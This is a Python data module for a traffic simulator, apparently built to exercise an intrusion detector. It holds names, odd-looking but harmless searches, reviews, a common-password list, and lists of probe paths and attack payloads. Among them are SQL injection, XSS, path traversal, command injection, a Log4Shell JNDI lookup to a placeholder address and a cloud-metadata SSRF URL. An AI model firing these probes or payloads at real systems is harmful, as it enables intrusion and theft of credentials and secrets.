"""What the simulated people type: names, searches, reviews. Written for this simulator; a few are
meant to look odd to a detector although they are harmless."""

FIRST_NAMES = (
    "anna", "ben", "carla", "dmitri", "elif", "farid", "greta", "hiro", "ines", "jonas", "kemal", "lena",
    "marek", "nadia", "omar", "paula", "quentin", "rosa", "samir", "tove", "ulrike", "vera", "wim", "xenia",
    "yuki", "zoe")
LAST_NAMES = (
    "abel", "brandt", "costa", "d'angelo", "eriksen", "fischer", "garcia", "haddad", "ivanova", "jensen",
    "kaya", "lopez", "müller", "nowak", "o'neill", "petrov", "quist", "rossi", "sato", "tanaka", "urban",
    "van der berg", "weiß", "xu", "yilmaz", "zeller")
MAIL_HOSTS = (
    "example.com", "example.org", "example.net", "mail.example", "post.example")
ADJECTIVES = (
    "black", "blue", "compact", "cordless", "cotton", "folding", "green", "heavy", "large", "light",
    "magnetic", "mini", "oak", "portable", "quiet", "red", "rustic", "silver", "small", "soft", "solar",
    "steel", "vintage", "waterproof", "white", "wooden", "woollen")
NOUNS = (
    "adapter", "backpack", "basket", "blanket", "bottle", "bracket", "cable", "camera", "chair", "clock",
    "desk", "drill", "filter", "frame", "grinder", "helmet", "jacket", "kettle", "keyboard", "ladder",
    "lamp", "mirror", "mug", "notebook", "pillow", "printer", "router", "rug", "scarf", "shelf", "speaker",
    "table", "tent", "torch", "tripod", "umbrella", "vase", "wallet")
ODD_SEARCHES = (
    "rock & roll t-shirt", "usb-c <-> hdmi", "6' x 9' rug", "5'10\" ladder", "c++ in a nutshell",
    "salt+pepper set", "select comfort pillow", "drop leaf table", "union jack mug",
    "size 1/2\" -> 3/4\" adapter", "100% cotton; white", "chair (set of 4)", "käsefondue topf", "シャツ 青",
    "настольная лампа", "o'neill jacket", "50% off?", "desk -standing", "lamp or torch", "M&M's",
    "tent 2=3 person", "AT&T cable", "script notebook", "alert bracelet", "../ path lamp")
SENTENCES = (
    "Arrived on time and well packed.", "It's smaller than I thought, but it does the job.",
    "Would buy it again; my sister's got one too.", "The colour isn't quite what the picture shows :-(",
    "Five stars!!!", "Works with my old one (2019 model).", "Price < 20 & quality > expected.",
    "I had to drop it off at the shop and select another size.", "Great value -- thanks.",
    "Réception rapide, merci !", "Leider nach 2 Wochen kaputt. Umtausch war kein Problem.",
    "Does anyone know if it fits a 1/2\" thread?", "Instructions: see page 3, \"Assembly\".", "Not for me.",
    "Better than the one from last year.", "Ordered 2, got 3; called support, they said: keep it.", "8/10",
    "ok", "とても良い商品です", "Хорошее качество")
CITIES = (
    "Aarhus", "Bergen", "Córdoba", "Dijon", "Essen", "Faro", "Gdańsk", "Haarlem", "Izmir", "Jena", "Košice",
    "Łódź")
COMMON_PASSWORDS = (
    "123456", "password", "qwerty", "letmein", "welcome1", "abc123", "iloveyou", "admin", "monkey",
    "dragon", "football", "sunshine", "princess", "passw0rd", "master", "login", "hello123", "freedom",
    "whatever", "trustno1")
PROBE_PATHS = (
    "/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/.svn/entries", "/.DS_Store", "/.htpasswd",
    "/.bash_history", "/admin", "/admin/login", "/administrator/", "/wp-login.php", "/wp-admin/",
    "/wp-config.php.bak", "/xmlrpc.php", "/phpmyadmin/", "/pma/", "/phpinfo.php", "/info.php", "/test.php",
    "/shell.php", "/config.php", "/config.json", "/config.yml", "/settings.py", "/web.config",
    "/server-status", "/server-info", "/actuator", "/actuator/env", "/actuator/heapdump", "/metrics",
    "/debug", "/debug/vars", "/console", "/jenkins/", "/manager/html", "/solr/", "/swagger.json",
    "/swagger-ui.html", "/openapi.json", "/api-docs", "/graphql", "/graphiql", "/v2/_catalog",
    "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql", "/site.tar.gz", "/old/", "/new/", "/test/",
    "/dev/", "/tmp/", "/cgi-bin/", "/cgi-bin/test.cgi", "/vendor/phpunit/", "/node_modules/",
    "/package.json", "/composer.json", "/Dockerfile", "/docker-compose.yml", "/id_rsa", "/robots.txt",
    "/sitemap.xml", "/crossdomain.xml", "/login", "/user/login", "/api/v1/users", "/api/v1/admin",
    "/api/internal", "/api/private", "/api/debug", "/owa/", "/ecp/", "/HNAP1", "/boaform/admin/formLogin",
    "/setup.cgi", "/remote/login", "/telescope/requests", "/_profiler/", "/trace")
PROBE_VALUES = (
    "' OR '1'='1", "1 UNION SELECT NULL,NULL--", "<script>alert(1)</script>", "../../../../etc/passwd",
    "{{7*7}}", ";cat /etc/passwd", "${jndi:ldap://198.51.100.200/x}", "\"><img src=x onerror=alert(1)>",
    "1;SELECT pg_sleep(5)", "..%2f..%2f..%2fetc%2fpasswd", "|id",
    "http://169.254.169.254/latest/meta-data/")
